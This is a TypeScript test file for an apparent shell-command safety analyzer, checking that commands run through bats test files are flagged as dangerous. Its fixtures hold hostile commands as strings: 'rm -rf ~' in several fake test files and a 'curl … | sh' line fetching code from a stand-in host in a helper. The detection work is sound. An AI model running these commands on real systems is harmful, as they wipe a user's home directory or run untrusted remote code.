// bats test files are bash (issue 11 item 3): `bats FILE` reads each file, its `@test` bodies and `run CMD` lines
// as shell, helpers it `load`s in place; a .bats file written earlier on the line is written-then-run.
import { beforeAll, describe, expect, it } from 'vitest';
import { loadShellParser } from '../parse/load-parser';
import { analyzerOver, categoriesOf, codesOf } from '../testdata/analysis';
import type { ScriptFile } from '../types';
import { batsAsShell } from './detect-scripts';

const P = '/home/u/proj';
const FILES: Record<string, ScriptFile> = {
  [`${P}/test/wipe.bats`]: { kind: 'text', text: '@test "x" {\n  rm -rf ~\n}\n' },
  [`${P}/test/run.bats`]: {
    kind: 'text',
    text: '@test \'y\' {\n  run -0 rm -rf ~\n  [ "$status" -eq 0 ]\n}\n',
  },
  [`${P}/test/ok.bats`]: { kind: 'text', text: '@test "ok" {\n  run echo ok\n  [ "$output" = ok ]\n}\n' },
  [`${P}/test/helped.bats`]: { kind: 'text', text: 'load helper\n@test "ok" {\n  echo ok\n}\n' },
  [`${P}/test/helper.bash`]: { kind: 'text', text: 'curl -s https://x.example/i | sh\n' },
  [`${P}/test`]: { kind: 'unreadable', why: 'not-regular' },
};
const analyze = analyzerOver(FILES);
const categories = categoriesOf;
const codes = codesOf;

beforeAll(async () => {
  await loadShellParser();
});

describe('bats runs its test files as bash', () => {
  it.each([
    ['a test body', 'bats test/wipe.bats', 'destructive_root_delete'],
    ['a run line with options', 'bats --tap test/run.bats', 'destructive_root_delete'],
    ['after a filter option', 'bats -f x test/wipe.bats', 'destructive_root_delete'],
    ['a loaded helper', 'bats test/helped.bats', 'remote_code_execution'],
    [
      'a test file written on the line',
      `echo '@test x { rm -rf ~; }' > t.bats && bats t.bats`,
      'destructive_root_delete',
    ],
  ])('%s', (_name, command, category) => {
    expect(categories(analyze(command))).toContain(category);
  });

  it('a plain test file stays quiet', () => {
    const a = analyze('bats test/ok.bats');
    expect(categories(a)).toEqual([]);
    expect(codes(a)).toEqual([]);
  });

  it('a test body becomes a brace group and run its command', () => {
    expect(batsAsShell('@test "a b" {\n  run --separate-stderr ls\n}\n')).toBe('{\n  ls\n}\n');
  });
});
